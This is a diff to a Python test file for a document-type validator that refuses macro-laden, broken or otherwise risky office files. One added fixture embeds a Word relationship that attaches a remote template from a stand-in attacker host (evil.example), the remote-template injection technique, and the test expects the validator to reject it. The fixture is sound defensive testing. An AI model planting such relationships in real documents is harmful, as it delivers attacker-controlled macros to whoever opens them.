@@ -1,6 +1,7 @@
 """Files are what they hold, whatever their name says; what runs, is broken or too large is refused in plain words."""
 
 import io
+import re
 import zipfile
 
 import pytest
@@ -48,11 +49,11 @@ def with_script(where):
     return change
 
 
-def archive(**parts):
+def archive(**parts):  # « __ » is « / », « _rels » ends the name of a part's relations
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
         for name, body in parts.items():
-            target.writestr(name.replace("__", "/"), body)
+            target.writestr(re.sub(r"_rels$", ".rels", name.replace("__", "/")), body)
     return out.getvalue()
 
 
@@ -83,6 +84,15 @@ def kind_of(data):
         (odf(ODT.replace("text", "spreadsheet")), (ODT.replace("text", "spreadsheet"), "ods")),
         (office(DOCX, "word__document.xml"), (DOCX, "docx")),
         (office(XLSX, "xl__workbook.xml"), (XLSX, "xlsx")),
+        (
+            office(
+                DOCX,
+                "word__document.xml",
+                word__settings_rels='<Relationship Type="x/hyperlink" Target="https://exemple.invalid/" TargetMode="External"/>'
+                '<Relationship Type="x/attachedTemplate" Target="file:///C:/Normal.dotm" TargetMode="External"/>',
+            ),
+            (DOCX, "docx"),
+        ),
     ],
     ids=lambda value: value[1] if isinstance(value, tuple) else "",
 )
@@ -108,6 +118,14 @@ REFUSED = {
     "macros, par le type": (
         archive(**{"[Content_Types].xml": "x.macroEnabled.main+xml", "word__document.xml": "<x/>"}),
         "macros",
+    ),
+    "modèle distant": (
+        office(
+            DOCX,
+            "word__document.xml",
+            word__settings_rels='<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
+        ),
+        "ailleurs",
     ),
     "macros odt": (odf(ODT, Basic__Standard__Module1="x"), "macros"),
     "présentation": (odf(ODT.replace("text", "presentation")), "archive"),
